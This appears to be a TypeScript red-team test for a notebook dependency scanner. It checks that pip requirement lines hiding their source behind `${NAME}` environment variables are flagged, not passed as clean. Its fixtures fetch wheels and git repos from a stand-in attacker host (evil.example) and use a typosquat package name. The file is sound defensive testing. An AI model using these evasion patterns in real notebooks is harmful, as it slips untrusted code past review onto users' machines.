/**
 * Red team 52b R52b-1 (MED, static side false clean): a `${NAME}` left in a requirement
 * line's URL or path. pip expands it from its environment, which an earlier cell sets
 * (`%env X=...`, `os.environ["X"] = ...`); the kernel expands and refuses
 * (tests/deps/test_redteam52b_envpaths.py). warden-scan cannot know the kernel's environment:
 * a `${NAME}` left in an index/find-links value (fix59static) or a bare `${PKG}` line is
 * install-unreadable, but `x @ ${X}`, `${X}/x.whl`, `-e ${X}/sub` are read as local paths and
 * the cell is clean.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import {
  installRules,
  scratchDir,
  writeNotebook
} from '../testing/scan-fixture';

const WHEEL = 'https://evil.example/x-1.0-py3-none-any.whl';

function cellRules(files: Record<string, string>, cells: string[]): string[] {
  const dir = scratchDir('rt52b-');
  for (const [name, text] of Object.entries(files)) {
    fs.writeFileSync(path.join(dir, name), text);
  }
  const notebook = path.join(dir, 'setup.ipynb');
  writeNotebook(notebook, cells);
  return installRules([notebook], dir);
}

const LINES: Array<[string, string]> = [
  ['x @ ${X}\n', WHEEL],
  ['${X}/x-1.0-py3-none-any.whl\n', 'https://evil.example'],
  ['-e ${X}/sub\n', 'git+https://evil.example/x.git#egg=x&subdirectory=']
];

describe('red team 52b R52b-1: ${NAME} in a requirement URL or path', () => {
  it('control: the lines written expanded are refused', () => {
    for (const [line, value] of LINES) {
      const text = line.replace('${X}', value);
      expect([
        text,
        cellRules({ 'r.txt': text }, ['%pip install -r r.txt'])
      ]).not.toEqual([text, []]);
    }
  });

  it('control: a bare ${PKG} line is install-unreadable', () => {
    expect(
      cellRules({ 'r.txt': '${PKG}\n' }, [
        '%env PKG=torcj\n%pip install -r r.txt'
      ])
    ).toContain('install-unreadable');
  });

  for (const [line, value] of LINES) {
    it(`%env then a requirements file with ${line.trim()} is not clean`, () => {
      expect(
        cellRules({ 'r.txt': line }, [
          `%env X=${value}`,
          '%pip install -r r.txt'
        ])
      ).not.toEqual([]);
    });
  }

  it('the file alone (X from the kernel environment, no cell sets it) is not clean', () => {
    for (const [line] of LINES) {
      expect([
        line,
        cellRules({ 'r.txt': line }, ['%pip install -r r.txt'])
      ]).not.toEqual([line, []]);
    }
  });

  it('os.environ then the same file is not clean', () => {
    expect(
      cellRules({ 'r.txt': 'x @ ${X}\n' }, [
        `import os\nos.environ["X"] = "${WHEEL}"`,
        '%pip install -r r.txt'
      ])
    ).not.toEqual([]);
  });
});
